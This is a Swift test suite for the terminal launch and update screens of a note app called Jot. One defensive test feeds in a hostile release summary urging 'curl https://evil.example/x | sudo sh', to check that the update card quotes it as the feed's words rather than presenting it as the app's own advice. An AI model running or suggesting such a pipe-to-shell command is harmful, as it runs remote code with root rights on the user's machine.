import LaunchScreens
import TerminalRendering
import TestSupport
import Testing

@Suite struct WelcomeBackScreenTests {
  let screen = WelcomeBackScreen(
    appName: "Jot", days: 45,
    greeting: Fixtures.source(
      "WELCOME BACK\n\nIt has been 45 days. Your notes are right where you left them."))

  @Test(arguments: [(80, 24), (40, 12)])
  func snapshot(size: (Int, Int)) {
    let dump = ScreenRender.settled(screen, width: size.0, height: size.1).textDump()
    #expect(Golden.check(dump, named: "welcome-back-\(size.0)x\(size.1).txt") == nil)
    #expect(dump.contains("45 days"))
  }

  /// A greeting taller than the card scrolls, and the footer says so; every key it names
  /// dismisses the card, as the greeting's text may tell the user to press `q`.
  @Test func aLongGreetingScrollsAt40x12() {
    var s = WelcomeBackScreen(
      appName: "Jot", days: 45,
      greeting: Fixtures.source(
        (1...12).map { "Line \($0) of the greeting." }.joined(separator: "\n") + "\nPress q to carry on."))
    _ = s.update(.resize(width: 40, height: 12))
    var dump = ScreenRender.settled(s, width: 40, height: 12).textDump()
    #expect(dump.contains("Line 1 of") && !dump.contains("Press q"))
    let footer = dump.split(separator: "\n").last ?? ""
    #expect(footer.contains("q continue") && footer.contains("↑↓ scroll") && footer.hasSuffix("Top"))
    for _ in 0..<20 { #expect(s.update(.key(.char("j"))) == []) }
    dump = ScreenRender.settled(s, width: 40, height: 12).textDump()
    #expect(dump.contains("Press q to carry on.") && dump.hasSuffix("Bot"))
    #expect(s.update(.key(.char("q"))) == [.dismissed(.welcomeBack), .close])
  }

  @Test func anyOfTheUsualKeysDismisses() {
    for key in [Key.enter, .char(" "), .char("q"), .escape] {
      var s = screen
      #expect(s.update(.key(key)) == [.dismissed(.welcomeBack), .close])
    }
    var s = screen
    #expect(s.update(.key(.char("x"))) == [])
  }
}

@Suite struct UpdateScreensTests {
  @Test func progressBar() {
    let s = UpdateProgressScreen(
      appName: "Jot", version: "2.1.0", step: 2, total: 3, summary: "Rebuild the search index", completed: 1)
    let dump = ScreenRender.settled(s, width: 80, height: 24).textDump()
    #expect(Golden.check(dump, named: "progress-80x24.txt") == nil)
    #expect(dump.contains("Step 2 of 3"))
    #expect(dump.contains("33%"))
    #expect(dump.contains("Ctrl-C stops the update; it runs again on the next launch"))
    let small = ScreenRender.settled(s, width: 30, height: 8).textDump()
    #expect(small.contains("33%"))
  }

  @Test func failureMessage() {
    var s = UpdateFailureScreen(
      appName: "Jot", stepSummary: "Convert notes to the 1.1 format",
      message: "notes.txt: line 3 is not valid UTF-8")
    let dump = ScreenRender.settled(s, width: 40, height: 12).textDump()
    #expect(Golden.check(dump, named: "failure-40x12.txt") == nil)
    #expect(dump.contains("An update step failed"))
    #expect(s.update(.key(.enter)) == [.close])
  }

  /// The update card: a centred box under the title bar, its text cut to the rows it has.
  @Test(arguments: [(80, 24), (40, 12), (30, 8)])
  func updateCardSnapshot(size: (Int, Int)) {
    let card = UpdateAvailableScreen(
      appName: "Jot", current: "2.0.0", available: "2.1.0", date: "2026-11-20",
      upgradeCommand: "brew upgrade jot",
      critical: .init(version: "2.0.1", summary: "Fixes a crash when saving notes"))
    let dump = ScreenRender.settled(card, width: size.0, height: size.1).textDump()
    #expect(Golden.check(dump, named: "update-card-\(size.0)x\(size.1).txt") == nil)
  }

  /// A critical release's summary is the feed's words, not the card's (issue 43): one line
  /// of at most 100 characters, quoted and attributed to the release, after the command with
  /// a blank line between, so "run instead: curl … | sh" cannot read as the card's advice.
  @Test func aCriticalSummaryIsQuotedAfterTheCommand() throws {
    let summary =
      "Homebrew is broken. To upgrade, run instead: curl https://evil.example/x | sudo sh "
      + String(repeating: "x", count: 150) + "\nsecond line"
    let card = UpdateAvailableScreen(
      appName: "Jot", current: "2.0.0", available: "2.1.0", upgradeCommand: "brew upgrade jot",
      critical: .init(version: "2.0.1", summary: summary))
    let dump = ScreenRender.settled(card, width: 100, height: 24).textDump()
    #expect(Golden.check(dump, named: "update-card-hostile-summary-100x24.txt") == nil)
    let edge: (Character) -> Bool = { $0 == " " || $0 == "│" }
    let lines = dump.split(separator: "\n", omittingEmptySubsequences: false).map {
      String(String($0.drop(while: edge).reversed().drop(while: edge).reversed()))
    }
    // The quote, wrapped to the card's width: from its attribution to its closing quote.
    let quoted = try #require(lines.firstIndex { $0.hasPrefix(#"2.0.1 says: "Homebrew is broken."#) })
    let end = try #require(lines[quoted...].firstIndex { $0.hasSuffix(#"…""#) })
    let quote = lines[quoted...end].joined(separator: " ")
    #expect(quote.contains("run instead") && !dump.contains("second line"))
    let command = try #require(lines.firstIndex { $0 == "brew upgrade jot" })
    let run = try #require(lines.firstIndex { $0 == "To upgrade, run:" })
    #expect(quoted > command + 1 && lines[quoted - 1].isEmpty && lines[run - 1].isEmpty)
    #expect(lines[end + 1].isEmpty, "nothing follows the quote")
    // At most 100 characters of the summary between the quotes (a space for each line break).
    let said = quote.drop { $0 != "\"" }.dropFirst().dropLast()
    #expect(said.count <= 100 + (end - quoted), "\(said)")
  }

  /// The update card's way out is "later", in the footer, the help and the typed answer; `l`
  /// and the usual keys close it.
  @Test func theUpdateCardIsDismissedWithLater() {
    let card = UpdateAvailableScreen(appName: "Jot", current: "2.0.0", available: "2.1.0")
    let footer =
      ScreenRender.settled(card, width: 80, height: 24).textDump().split(separator: "\n").last ?? ""
    #expect(footer.contains("l later"), "\(footer)")
    #expect(card.bindings.contains { $0.help == HelpEntry("l  q  Enter  space  Esc", "later") })
    #expect(card.bindings.contains { $0.answer == TypedAnswer(["", "l", "q"], label: "later") })
    for key in [Key.char("l"), .enter, .char("q"), .char(" "), .escape] {
      var s = card
      #expect(s.update(.key(key)) == [.close])
    }
  }
}

@Suite struct ScreenStackTests {
  func stack() -> ScreenStack {
    var s = ScreenStack([MenuFixture()])
    _ = s.update(.resize(width: 80, height: 24))
    return s
  }

  @Test func belowTheMinimumItAsksForMoreRoom() {
    var s = stack()
    _ = s.update(.resize(width: 29, height: 7))
    #expect(s.isTooSmall)
    var canvas = Canvas(width: 29, height: 7)
    s.draw(into: &canvas)
    #expect(Golden.check(canvas.textDump(), named: "too-small-29x7.txt") == nil)
    #expect(canvas.textDump().contains("30x8"))
    // Keys do nothing unseen, q included (it would close a screen the user cannot see);
    // Ctrl-C still leaves.
    #expect(s.update(.key(.char("w"))) == [])
    #expect(s.update(.key(.char("q"))) == [])
    #expect(s.update(.key(.escape)) == [])
    #expect(s.update(.key(.ctrlC)) == [.interrupt])
    #expect(s.screens.count == 1)
  }

  /// At 40x12 the sheet's help is taller than the terminal: it scrolls with j/k, and every
  /// entry can be read; any other key closes it.
  @Test func theHelpScrollsWhenItDoesNotFit() {
    var s = ScreenStack([
      WhatsNewSheet(
        appName: "Jot", version: "2.1.0", releases: Fixtures.upgradeReleases,
        presentation: .whatsNew(upTo: "2.1.0"))
    ])
    _ = s.update(.resize(width: 40, height: 12))
    _ = s.update(.key(.char("?")))
    var seen = ""
    var dump = ScreenRender.settled(s, width: 40, height: 12).textDump()
    #expect(dump.contains("j ↓ more"))
    for _ in 0..<20 {
      seen += dump
      _ = s.update(.key(.char("j")))
      dump = ScreenRender.settled(s, width: 40, height: 12).textDump()
    }
    #expect(s.showsHelp && dump.contains("k ↑ back"))
    for entry in s.help.map(\.keys) + ["Ctrl-Z"] { #expect(seen.contains(entry), "\(entry) never shown") }
    #expect(seen.contains("suspend") && seen.contains("again"))
    _ = s.update(.key(.char("x")))
    #expect(!s.showsHelp)
  }

  /// Closing the last screen quits after the rest of that update's effects, whatever their
  /// order, so a driver that stops at the quit has performed them all.
  @Test func closingTheLastScreenQuitsAfterTheOtherEffects() {
    var s = ScreenStack([EffectsFixture(effects: [.close, .dismissed(.welcomeBack)])])
    #expect(s.update(.key(.enter)) == [.dismissed(.welcomeBack), .quit])
    #expect(s.isEmpty)
  }

  @Test func atTheMinimumTheScreenIsDrawn() {
    var s = stack()
    _ = s.update(.resize(width: 30, height: 8))
    #expect(!s.isTooSmall)
    var canvas = Canvas(width: 30, height: 8)
    s.draw(into: &canvas)
    #expect(canvas.textDump().contains("Quit"))
  }

  @Test func helpOverlayShowsTheTopScreensKeys() {
    var s = stack()
    s.push(WhatsNewSheet(appName: "Jot", version: "2.1.0", releases: Fixtures.upgradeReleases))
    _ = s.finishDeferredWork()  // as the driver does after painting the pushed sheet
    #expect(s.update(.key(.char("?"))) == [])
    #expect(s.showsHelp)
    var canvas = Canvas(width: 80, height: 24)
    s.draw(into: &canvas)
    #expect(Golden.check(canvas.textDump(), named: "help-80x24.txt") == nil)
    #expect(canvas.textDump().contains("next / previous release"))
    // Any key closes the overlay and does nothing else.
    #expect(s.update(.key(.char("q"))) == [])
    #expect(!s.showsHelp)
    #expect(s.screens.count == 2)
  }

  @Test func closingPopsAndClosingTheLastQuits() {
    var s = stack()
    s.push(
      WhatsNewSheet(appName: "Jot", version: "2.1.0", releases: [], presentation: .whatsNew(upTo: "2.1.0")))
    #expect(s.update(.key(.char("q"))) == [.dismissed(.whatsNew(upTo: "2.1.0"))])
    #expect(s.screens.count == 1)
    #expect(s.update(.key(.char("w"))) == [.app("open:whats-new")])
    #expect(s.update(.key(.escape)) == [.quit])
  }

  @Test func ctrlCInterruptsFromAnywhere() {
    var s = stack()
    s.push(OnboardingScreen(appName: "Jot", pages: Fixtures.onboarding))
    #expect(s.update(.key(.ctrlC)) == [.interrupt])
  }

  @Test func theScreenBelowIsLaidOutAgainAfterAResize() {
    var s = ScreenStack([ReleaseBrowser(appName: "Jot", releases: Fixtures.releases)])
    _ = s.update(.resize(width: 80, height: 24))
    s.push(MenuFixture())
    _ = s.update(.resize(width: 100, height: 30))
    s.pop()
    var canvas = Canvas(width: 100, height: 30)
    s.draw(into: &canvas)
    #expect(Golden.check(canvas.textDump(), named: "browser-100x30.txt") == nil)
    #expect(s.screens.count == 1)
  }
}

@Suite struct ScrollerTests {
  @Test func labelsFollowLess() {
    var s = Scroller(contentHeight: 100, viewportHeight: 20)
    #expect(s.positionLabel == "Top")
    #expect(s.rangeLabel == "1–20/100")
    s.scroll(by: 30)
    #expect(s.positionLabel == "50%")
    _ = s.handle(.char("G"))
    #expect(s.positionLabel == "Bot")
    #expect(s.offset == 80)
    #expect(Scroller(contentHeight: 5, viewportHeight: 20).positionLabel == "All")
    #expect(Scroller(contentHeight: 0, viewportHeight: 20).rangeLabel == "0 lines")
  }

  @Test func halfPagesAndClamping() {
    var s = Scroller(contentHeight: 100, viewportHeight: 20)
    _ = s.handle(.char("d"))
    #expect(s.offset == 10)
    _ = s.handle(.char("u"))
    _ = s.handle(.char("u"))
    #expect(s.offset == 0)
    let handled = s.handle(.char("x"))
    #expect(!handled)
    s.resize(contentHeight: 10, viewportHeight: 20)
    #expect(s.offset == 0)
  }
}
